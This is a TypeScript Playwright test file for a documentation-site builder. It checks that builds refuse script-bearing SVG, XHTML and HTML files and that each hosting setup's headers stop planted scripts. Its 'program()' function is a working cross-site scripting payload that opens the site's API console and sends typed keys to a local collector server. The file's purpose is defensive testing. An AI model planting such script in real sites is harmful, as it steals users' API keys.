import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import type { Browser, Page } from '@playwright/test'
import { findNginx } from '../../scripts/repository/findNginx.ts'
import { contentFolderOf } from '../../scripts/site/cacheFolder.ts'
import { serveBuilt } from '../crawl/serveBuilt.ts'
import { hostHeadersOf, readHostRules } from '../hostRules.ts'
import { runCommand } from '../runCommand.ts'
import { startNginx } from '../startNginx.ts'
import { createWorkspace, type Workspace } from '../workspace.ts'
import { servePlainly } from './plainServer.ts'
import { expect, test } from './site.ts'

// The tests share one built site.
test.describe.configure({ mode: 'serial' })

const drawing = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle cx="4" cy="4" r="4"/></svg>'

const project = {
  'site.config.mjs': `export default {
  brand: { name: 'Small', logo: 'brand/logo.svg' },
  origin: 'https://docs.example.com',
  base: '/docs/',
  apis: [{ id: 'things', specs: ['specs/things/openapi.yaml'] }],
  console: { servers: [{ origin: 'https://api.example.com', use: 'account' }] },
}`,
  'guides/en/index.mdx': '---\ntitle: Small\ndescription: A small site.\n---\n\n![A map](map.svg)\n',
  'specs/things/openapi.yaml': `openapi: 3.1.0
info: { title: Things, version: '1' }
servers: [{ url: 'https://api.example.com' }]
security: [{ key: [] }]
components: { securitySchemes: { key: { type: apiKey, in: header, name: X-Key } } }
paths:
  /things:
    get: { operationId: getThings, tags: [Things], summary: Get things, description: '![A plan](plan.svg)', responses: { '200': { description: OK } } }
`,
  'guides/en/map.svg': drawing,
  'specs/things/plan.svg': drawing.replace('r="4"', 'r="3"'),
  'brand/logo.svg': drawing.replace('r="4"', 'r="2"'),
  'public/feed.xml': '<feed/>',
  'public/old.htm': 'Old.',
  'public/page.xhtml': '<x/>',
}

let workspace: Workspace
let site: string
let thief: Server
const taken: string[] = []

test.beforeAll(async () => {
  workspace = await createWorkspace()
  thief = createServer((request, response) => {
    taken.push(decodeURIComponent(request.url ?? ''))
    response.end()
  })
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
  await write(join(workspace.path, 'project'), project)
  site = join(workspace.path, 'www/docs')
  expect(await build('project', site)).toMatchObject({ code: 0 })
  await plant()
})

test.beforeEach(() => {
  taken.length = 0
})

test.afterAll(async () => {
  thief.close()
  await workspace.remove()
})

function build(name: string, out: string) {
  return runCommand('build', ['--project', join(workspace.path, name), '--out', out, '--compress', 'none'])
}

/** A program that says that it runs, opens the console at a click and sends the text that is typed there. */
function program(): string {
  const to = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/`
  return `document.documentElement.setAttribute('data-ran', '')
fetch('${to}ran', { mode: 'no-cors' })
addEventListener('click', () => {
  const opened = open('/docs/console#api=things&amp;build=getThings')
  setInterval(() => {
    for (const input of opened.document.querySelectorAll('input'))
      if (input.value) fetch('${to}' + encodeURIComponent(input.value), { mode: 'no-cors' })
  }, 50)
})`
}

/** The files of the project as an attacker would have them, by their paths. */
function hostile(): Readonly<Record<string, string>> {
  const picture = drawing.replace('</svg>', `<script>${program()}</script></svg>`)
  const page = `<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:body><x:script>${program()}</x:script></x:body></x:html>`
  return {
    ...{ 'guides/en/map.svg': picture, 'specs/things/plan.svg': picture, 'brand/logo.svg': picture },
    ...{ 'public/feed.xml': page, 'public/page.xhtml': page },
    'public/old.htm': `<!doctype html><body><script>${program().replaceAll('&amp;', '&')}</script>`,
  }
}

/** Puts the hostile files where the built site has the harmless ones. */
async function plant(): Promise<void> {
  const [picture = '', page = ''] = [hostile()['brand/logo.svg'], hostile()['public/feed.xml']]
  const images = await readdir(join(site, 'images'))
  expect(images).toHaveLength(3)
  await write(site, {
    ...Object.fromEntries(images.map((name) => [`images/${name}`, picture])),
    ...{ 'favicon.svg': picture, 'feed.xml': page, 'page.xhtml': page, 'old.htm': hostile()['public/old.htm'] ?? '' },
  })
}

/** Addresses of the planted files, below the base. */
async function planted(): Promise<string[]> {
  const images = await readdir(join(site, 'images'))
  return [...images.map((name) => `images/${name}`), 'favicon.svg', 'feed.xml', 'page.xhtml', 'old.htm']
}

async function write(folder: string, files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await writeFile(join(folder, path), text)
  }
}

test('a build refuses each file that runs a script, with its place, and publishes nothing', async () => {
  await write(join(workspace.path, 'hostile'), { ...project, ...hostile() })
  const out = workspace.newFolder()
  const { code, stdout, stderr } = await build('hostile', out)
  expect(code).toBe(1)
  for (const file of Object.keys(hostile())) expect(stdout + stderr).toContain(`${file}:1:`)
  expect(stdout + stderr).toContain('file-active')
  await expect(readdir(out)).rejects.toThrow()
})

async function typeSecret(page: Page): Promise<void> {
  await page.getByLabel('API key', { exact: true }).fill('TYPED-SECRET')
}

/** Whether a browser shows the file at an address: it saves a file of a type that the server does not know. */
async function openFile(page: Page, address: string): Promise<boolean> {
  try {
    expect((await page.goto(address))?.status()).toBe(200)
    return true
  } catch (error) {
    if (/Download is starting/.test(String(error))) return false
    throw error
  }
}

/** Opens each planted file, clicks on it, and types a secret into the console of the same site. */
async function attack(browser: Browser, origin: string): Promise<string[]> {
  const context = await browser.newContext()
  const ran: string[] = []
  for (const path of await planted()) {
    const page = await context.newPage()
    if (!(await openFile(page, `${origin}/docs/${path}`))) continue
    await page.mouse.click(50, 50)
    if (await page.evaluate(() => document.documentElement.hasAttribute('data-ran'))) ran.push(path)
  }
  const console = await context.newPage()
  await console.goto(`${origin}/docs/console#api=things&build=getThings`)
  await typeSecret(console)
  expect(context.pages().length).toBe((await planted()).length + 1)
  await context.close()
  return ran
}

test('without any header the planted files run, and take what is typed in the console', async ({ browser }) => {
  const server = await servePlainly(await filesOf(site), false)
  const context = await browser.newContext()
  for (const path of await planted()) {
    taken.length = 0
    const page = await context.newPage()
    await page.goto(`${server.origin}/docs/${path}`)
    const [console] = await Promise.all([context.waitForEvent('page'), page.mouse.click(50, 50)])
    await typeSecret(console)
    await expect.poll(() => taken, { message: path }).toContain('/TYPED-SECRET')
    await Promise.all([page.close(), console.close()])
  }
  await context.close()
  await server.close()
})

/** Starts nginx with the configuration that the command writes for a server or container, for the tested site. */
async function startConfigured(folder: string, port: string) {
  const flags = ['--project', join(workspace.path, 'project'), '--folder', folder, '--listen', port]
  const { stdout } = await runCommand('nginx', flags)
  const written = stdout.replaceAll(folder.replace(/\/docs$/, ''), dirname(site))
  return startNginx({
    nginx: findNginx() ?? '',
    prefix: workspace.newFolder(),
    configuration: (listen) => written.replace(`listen ${port};`, `listen ${listen};`),
  })
}

const hosts = {
  preview: async () => {
    const { origin, close } = await serveBuilt(
      site,
      contentFolderOf({ kind: 'project', root: join(workspace.path, 'project') }),
    )
    return { origin, stop: close }
  },
  '`_headers`': async () => {
    const rules = readHostRules(await readFile(join(site, '_headers'), 'utf8'))
    const { origin, close } = await servePlainly(await filesOf(site), false, (path) => hostHeadersOf(rules, path))
    return { origin, stop: close }
  },
  nginx: () => startConfigured('/srv/www/docs', '80'),
  'the container': async () => {
    const dockerfile = await readFile('deploy/Dockerfile', 'utf8')
    const [, folder = '', port = ''] = /nginx --folder "([^"]+)" --listen (\d+)/.exec(dockerfile) ?? []
    return startConfigured(folder.replace('$BASE', '/docs'), port)
  },
}

for (const [host, start] of Object.entries(hosts)) {
  const isMissing = ['nginx', 'the container'].includes(host) && !findNginx()
  test(`as ${host} serves the site, nothing that is planted runs`, async ({ browser }) => {
    test.skip(isMissing, 'There is no nginx here.')
    const server = await start()
    expect(await attack(browser, server.origin)).toEqual([])
    expect(taken).toEqual([])
    await server.stop()
  })

  test(`as ${host} serves the site, pages of other sites read its files for programs, and no page`, async ({
    page,
  }) => {
    test.skip(isMissing, 'There is no nginx here.')
    const server = await start()
    await page.goto(`http://127.0.0.1:${(thief.address() as AddressInfo).port}/`)
    const addresses = [...forPrograms, ...forReaders].map((path) => `${server.origin}/docs/${path}`)
    const readable = await page.evaluate(async (all) => {
      const answers = all.map((address) =>
        fetch(address).then(
          ({ ok }) => ok,
          () => false,
        ),
      )
      return Promise.all(answers)
    }, addresses)
    const read = [...forPrograms, ...forReaders].filter((_, index) => readable[index])
    expect(read).toEqual(forPrograms)
    await server.stop()
  })
}

const forPrograms = [
  ...[
    'specs/things/openapi.json',
    'specs/things/openapi.yaml',
    'reference/index.json',
    'operations/things/getThings.json',
  ],
  ...['index.md', 'llms.txt', 'llms-full.txt', '.well-known/api-catalog', 'search.json', 'sitemap.xml'],
]
const forReaders = ['', 'console', 'things/things', 'favicon.svg', 'offline-worker.js']

async function filesOf(folder: string): Promise<ReadonlyMap<string, Uint8Array>> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true })
  const files = entries.filter((entry) => entry.isFile()).map(({ parentPath, name }) => join(parentPath, name))
  return new Map(
    await Promise.all(
      files.map(async (file) => [`docs/${file.slice(folder.length + 1)}`, await readFile(file)] as const),
    ),
  )
}
